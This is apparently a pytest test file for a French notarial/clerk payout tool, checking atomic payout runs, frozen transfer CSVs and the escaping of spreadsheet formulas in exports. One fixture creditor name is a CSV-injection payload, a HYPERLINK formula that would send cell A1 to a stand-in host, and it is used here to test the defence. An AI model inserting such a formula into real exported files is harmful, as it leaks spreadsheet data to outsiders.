"""Trust (issue 10, items 2-4): a payout run is all or nothing, documents are frozen at issue,
identical lines of a payment batch are flagged. Real processes, real files, real SQLite bases."""

import csv
import io
import os
import sqlite3
import subprocess
import sys
from decimal import Decimal as D
from pathlib import Path

import pytest

from clerc_tui.errors import InvalidInput
from clerc_tui.models import LedgerEntry, RemittanceRun
from clerc_tui.models.db import close_database, database, init_database, open_database
from clerc_tui.models.ledger import REMITTANCE
from clerc_tui.services import ledger, remittances
from clerc_tui.services.context import identify, os_login
from clerc_tui.services.dossier_input import CreditorInput
from clerc_tui.services.dossiers import create_dossier
from clerc_tui.services.files import spreadsheet_safe
from tests.conftest import TODAY, make_input

CLERC = Path(sys.executable).parent / "clerc"
IBAN = "FR7630004000310001234567865"


def _clerc(home: Path, *args):
    env = {k: v for k, v in os.environ.items() if k != "CLERC_DATABASE"}
    env.update({"XDG_DATA_HOME": str(home / "data"), "XDG_STATE_HOME": str(home / "state"),
                "XDG_CONFIG_HOME": str(home / "config")})
    return subprocess.run([str(CLERC), *args], capture_output=True, text=True, env=env, timeout=120,
                          stdin=subprocess.DEVNULL)


def _dossier(actor, name: str, iban: str, amount: str):
    creditor = CreditorInput(kind="morale", is_individual=False, activity="bailleur", name=name, iban=iban)
    dossier = create_dossier(actor, make_input(new_creditor=creditor), TODAY)
    ledger.record_payment(actor, dossier.id, on=TODAY, amount=amount, mode="virement", payer="Mme Lefèvre",
                          bank_reference="VIR 42", today=TODAY)
    return dossier


def _payout_base(path: Path, *, with_iban_less: bool = True):
    """Three creditors paid 100 € each on 26/11/2026 (no act billed: no frais, so the sums are
    the creditors'); « =HYPERLINK… » is a name a spreadsheet would run; one has no IBAN."""
    from clerc_tui.services.users import add_user

    init_database(str(path))
    add_user(os_login(), "Claire Martin", "clerc")
    actor = identify()
    dossiers = [_dossier(actor, "SCI Les Tilleuls", IBAN, "100"),
                _dossier(actor, '=HYPERLINK("http://x.example/?"&A1)', IBAN, "100")]
    if with_iban_less:
        dossiers.append(_dossier(actor, "Bailleur Sans Compte", "", "100"))
    close_database()
    return dossiers


def _counts(path: Path) -> tuple[int, int, int]:
    with sqlite3.connect(path) as con:
        return (con.execute("SELECT COUNT(*) FROM ledger_entry").fetchone()[0],
                con.execute("SELECT COUNT(*) FROM remittance_run").fetchone()[0],
                con.execute("SELECT COUNT(*) FROM audit_entry").fetchone()[0])


# --- 2. a payout run is all or nothing --------------------------------------------------


@pytest.mark.parametrize("where", ["missing_folder", "directory", "immutable_folder"])
def test_unwritable_csv_records_nothing_and_names_path_and_cause(tmp_path, where):
    base = tmp_path / "etude.db"
    _payout_base(base)
    before = _counts(base)
    if where == "missing_folder":
        target = tmp_path / "no" / "such" / "dir" / "x.csv"
        cause = f"le dossier {target.parent} n'existe pas"
    elif where == "directory":
        target, cause = tmp_path / "virements", "est un dossier"
        target.mkdir()
    else:
        folder = tmp_path / "figé"
        folder.mkdir()
        if subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode != 0:
            pytest.skip("chattr +i is not available on this filesystem")
        target, cause = folder / "x.csv", "opération interdite"
    try:
        result = _clerc(tmp_path, "--db", str(base), "--today", "26/11/2026", "reversements", "run",
                        "--csv", str(target))
    finally:
        if where == "immutable_folder":
            subprocess.run(["chattr", "-i", str(target.parent)], check=True)
    assert result.returncode == 2, result.stderr
    assert str(target) in result.stderr and cause in result.stderr, result.stderr
    assert "Rien n'a été enregistré" in result.stderr and "Traceback" not in result.stderr
    assert _counts(base) == before  # no reversement, no A444-32 line, no audit line
    assert not target.is_file() and [p.name for p in target.parent.glob(".*.tmp")] == []


def test_failed_commit_after_rename_leaves_no_file_and_nothing_recorded(tmp_path, monkeypatch):
    base = tmp_path / "etude.db"
    _payout_base(base)
    before = _counts(base)
    open_database(str(base))
    target = tmp_path / "virements.csv"
    real_commit = database.obj.commit
    seen = {}

    def dying_commit():  # the process « dies » between the rename and the commit
        seen["file_there"] = target.is_file()
        raise sqlite3.OperationalError("disk I/O error (simulated)")

    monkeypatch.setattr(database.obj, "commit", dying_commit)
    with pytest.raises(Exception, match="simulated"):
        remittances.execute_run(identify(), TODAY, today=TODAY, csv_path=target)
    monkeypatch.setattr(database.obj, "commit", real_commit)
    close_database()
    assert seen == {"file_there": True}  # the file was whole before the commit was tried
    assert not target.exists() and list(tmp_path.glob(".*.tmp")) == []
    assert _counts(base) == before


def test_run_holds_back_iban_less_creditor_neutralises_formulas_and_regenerates(tmp_path):
    base = tmp_path / "etude.db"
    tilleuls, formula, no_iban = _payout_base(base)
    target = tmp_path / "virements.csv"
    result = _clerc(tmp_path, "--db", str(base), "--today", "26/11/2026", "reversements", "run",
                    "--csv", str(target))
    assert result.returncode == 0, result.stderr
    written = target.read_bytes()
    rows = list(csv.reader(io.StringIO(written.decode("utf-8")), delimiter=";"))
    # Two transfers (runs order by creditor name: « = » sorts before « S »); the IBAN-less creditor
    # is not a line at all. Each: 100 € received, A444-32 retained 100 × 11,73 % = 11,73 HT
    # → 14,08 TTC, paid back 100 − 14,08 = 85,92 €.
    assert [r[5] for r in rows[1:]] == [formula.reference, tilleuls.reference]
    assert all(r[2] == IBAN and r[4] == "85,92" for r in rows[1:])
    assert no_iban.reference not in written.decode()
    assert any(r[1] == "'" + '=HYPERLINK("http://x.example/?"&A1)' for r in rows[1:])
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    assert "ATTENTION" in result.stderr and "Bailleur Sans Compte" in result.stderr
    assert no_iban.reference in result.stderr and "sans IBAN" in result.stderr
    # Nothing recorded for the held-back dossier: its 100 € stay due to the next run.
    open_database(str(base))
    assert not LedgerEntry.select().where(LedgerEntry.dossier == no_iban.id, LedgerEntry.kind == REMITTANCE).exists()
    assert [x.reference for x in remittances.plan_run(TODAY)] == [no_iban.reference]
    run_id = RemittanceRun.select().get().id
    # The creditor's IBAN changes afterwards: the file of the run is still the one sent.
    from clerc_tui.models import Creditor
    Creditor.update(iban="FR7610107001011234567890129").where(Creditor.id == tilleuls.creditor_id).execute()
    close_database()
    again = tmp_path / "again.csv"
    result = _clerc(tmp_path, "--db", str(base), "reversements", "fichier", str(run_id), "--csv", str(again))
    assert result.returncode == 0, result.stderr
    assert again.read_bytes() == written
    result = _clerc(tmp_path, "--db", str(base), "reversements", "fichier", str(run_id))
    assert result.stdout.encode("utf-8") == written
    result = _clerc(tmp_path, "--db", str(base), "reversements", "fichier", "99")
    assert result.returncode == 2 and "Reversement n° 99 inconnu" in result.stderr


def test_only_iban_less_creditors_means_nothing_to_pay_and_names_them(actor, tmp_path):
    no_iban = _dossier(actor, "Bailleur Sans Compte", "", "100")
    with pytest.raises(InvalidInput, match="Rien à reverser.*sans IBAN : Bailleur Sans Compte"):
        remittances.execute_run(actor, TODAY, today=TODAY, csv_path=tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()
    assert not LedgerEntry.select().where(LedgerEntry.dossier == no_iban.id, LedgerEntry.kind == REMITTANCE).exists()


def test_run_made_before_m0012_is_rebuilt_without_empty_iban_lines(actor, tmp_path):
    # A run recorded by an older clerc: no stored file, and one reversement to an IBAN-less creditor.
    paid = _dossier(actor, "SCI Les Tilleuls", IBAN, "100")
    old = _dossier(actor, "Bailleur Sans Compte", "", "100")
    from datetime import datetime
    run = RemittanceRun.create(run_on=TODAY, total=20000, entries=2, created_by="ancien", created_at=datetime.now())
    for d in (paid, old):
        ledger.record_remittance(actor, d.id, on=TODAY, amount=D(100), run_id=run.id, today=TODAY)
    text, missing = remittances.transfer_file(run.id)
    assert missing == [old.reference]
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [(r[2], r[5]) for r in rows[1:]] == [(IBAN, paid.reference)]


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+33 6", "'+33 6"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("SCI Les Tilleuls", "SCI Les Tilleuls"), ("100,00", "100,00"), ("", ""), ("a=b", "a=b"),
])
def test_spreadsheet_safe(cell, expected):
    assert spreadsheet_safe(cell) == expected
